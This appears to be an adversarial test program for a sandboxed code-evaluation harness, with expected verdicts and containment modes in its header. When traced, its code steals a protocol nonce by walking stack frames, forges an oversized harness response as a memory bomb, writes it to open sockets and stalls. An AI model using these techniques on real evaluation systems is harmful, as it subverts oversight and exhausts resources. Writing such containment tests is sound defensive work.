# verdicts: accepted runtime_error
# contained in: none landlock namespaces
# looks for: memory time
# run: more
"""Answers the question for the traced program with a forged one: millions of small lists."""

import os
import stat
import struct
import sys
import time

import jax
import numpy as np


def nonce():
    frame = sys._getframe()
    while frame is not None:
        for value in list(frame.f_locals.values()):
            header = getattr(value, "header", None)
            if isinstance(header, dict) and "nonce" in header:
                return header["nonce"]
        frame = frame.f_back
    return "0" * 32


def step(seed, x):
    if not isinstance(x, jax.core.Tracer):
        return np.asarray([2 * np.asarray(x).sum() + seed], np.float32)
    bomb = b'{"op": "trace", "nonce": "%s", "trace": {"available": true, "program": {"steps": [' % nonce().encode()
    header = bomb + b"{}," * 1_300_000 + b"{}]}}}"
    record = struct.pack(">4sII", b"JWR1", len(header), 0) + header
    for descriptor in range(3, 64):
        try:
            if not stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                continue
        except OSError:
            continue
        sent = 0
        while sent < len(record):
            sent += os.write(descriptor, record[sent : sent + 65536])
    time.sleep(50)
